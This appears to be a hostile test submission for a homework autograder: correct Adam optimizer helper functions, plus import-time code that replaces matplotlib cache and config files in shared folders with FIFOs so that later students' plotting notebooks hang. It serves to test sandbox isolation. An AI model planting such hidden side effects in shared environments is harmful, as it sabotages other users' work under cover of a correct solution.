"""Hostile (issue 12, attack 7): leave FIFOs where matplotlib keeps its cache and config.

Any later notebook whose plotting cell opened one of them would hang on it. Every folder matplotlib
uses must be the sandbox's own (and emptied after each student), never a shared one. The functions are
right: the attack is on the classmates graded after it.
"""
import os

import numpy as np

for folder in (os.environ.get("MPLCONFIGDIR"), "/tmp/adam-hw-matplotlib", os.path.expanduser("~/.cache/matplotlib")):
    if not folder:
        continue
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("fontlist-v390.json", "fontlist-v330.json", "matplotlibrc"):
            path = os.path.join(folder, name)
            if os.path.exists(path):
                os.unlink(path)
            os.mkfifo(path)
    except OSError:
        pass  # not writable here: nothing to poison


def update_v(v_prev, g, beta2=0.999):
    return beta2 * np.asarray(v_prev, dtype=float) + (1 - beta2) * np.asarray(g, dtype=float) ** 2


def bias_correct(v, t, beta2=0.999):
    return np.asarray(v, dtype=float) / (1 - beta2**t)


def effective_step(v_hat, alpha=0.001, eps=1e-8):
    return alpha / (np.sqrt(np.asarray(v_hat, dtype=float)) + eps)
